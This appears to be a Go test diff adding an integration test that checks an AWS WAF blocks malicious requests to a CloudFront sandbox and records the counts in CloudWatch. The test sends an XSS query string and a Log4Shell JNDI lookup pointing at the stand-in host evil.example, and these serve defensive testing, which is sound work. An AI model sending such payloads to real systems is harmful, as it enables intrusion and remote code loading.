@@ -4,11 +4,15 @@ import (
 	"fmt"
 	"maps"
 	"net/http"
+	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/cloudfront"
+	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
+	cwtypes "github.com/aws/aws-sdk-go-v2/service/cloudwatch/types"
 	"github.com/aws/aws-sdk-go-v2/service/wafv2"
 	waftypes "github.com/aws/aws-sdk-go-v2/service/wafv2/types"
 
@@ -75,6 +79,53 @@ func TestOneWebACLForAllAndNoneForNobody(t *testing.T) {
 	c.remove(t, "plain")
 	if after := c.inventory(t); !maps.Equal(before, after) {
 		t.Errorf("left behind: before %v, after %v", before, after)
+	}
+}
+
+// TestAnAttackIsRefusedAndCounted: with WAF it gets 403, without it what there
+// is, and CloudWatch has the counts.
+func TestAnAttackIsRefusedAndCounted(t *testing.T) {
+	c := start(t, nil)
+	box := c.create(t, events.CreateSandbox{Name: "safe", WAF: true})
+	c.release(t, "safe", site())
+	const attack = "?q=%3Cscript%3Ealert(1)%3C/script%3E"
+	c.shows(t, box.URL, "<h1>one</h1>")
+	for range 3 {
+		if status, header, body := c.get(t, box.URL+attack); status != http.StatusForbidden || header.Get("X-Cache") != "Error from cloudfront" || !strings.Contains(body, "Request blocked") {
+			t.Errorf("an attack: %d %s", status, body)
+		}
+	}
+	if status, _, _ := c.get(t, box.URL, "X-Api-Version", "${jndi:ldap://evil.example/a}"); status != http.StatusForbidden {
+		t.Errorf("Log4j in a header: %d", status)
+	}
+	sum := func(metric, rule string) (total float64) {
+		t.Helper()
+		out, err := cloudwatch.NewFromConfig(c.aws()).GetMetricStatistics(t.Context(), &cloudwatch.GetMetricStatisticsInput{
+			Namespace: aws.String("AWS/WAFV2"), MetricName: &metric, Period: aws.Int32(60), Statistics: []cwtypes.Statistic{cwtypes.StatisticSum},
+			StartTime: aws.Time(time.Now().Add(-time.Hour)), EndTime: aws.Time(time.Now().Add(time.Hour)),
+			Dimensions: []cwtypes.Dimension{{Name: aws.String("WebACL"), Value: aws.String("mayfly-local")}, {Name: aws.String("Rule"), Value: &rule}},
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, point := range out.Datapoints {
+			total += *point.Sum
+		}
+		return total
+	}
+	for rule, want := range map[string]float64{"ALL": 4, "AWSManagedRulesCommonRuleSet": 3, "AWSManagedRulesKnownBadInputsRuleSet": 1} {
+		eventually(t, fmt.Sprintf("%s blocked %v requests", rule, want), func() (bool, error) { return sum("BlockedRequests", rule) == want, nil })
+	}
+	if sum("AllowedRequests", "ALL") == 0 {
+		t.Error("no request was allowed")
+	}
+	off := false
+	if err := c.api(t.Context(), "PATCH", "/v1/sandboxes/safe", events.UpdateSandbox{WAF: &off}, nil); err != nil {
+		t.Fatal(err)
+	}
+	c.await(t, "safe", events.PhaseReady)
+	if status, _, _ := c.get(t, box.URL+attack); status != http.StatusOK {
+		t.Errorf("without WAF: %d", status)
 	}
 }
 
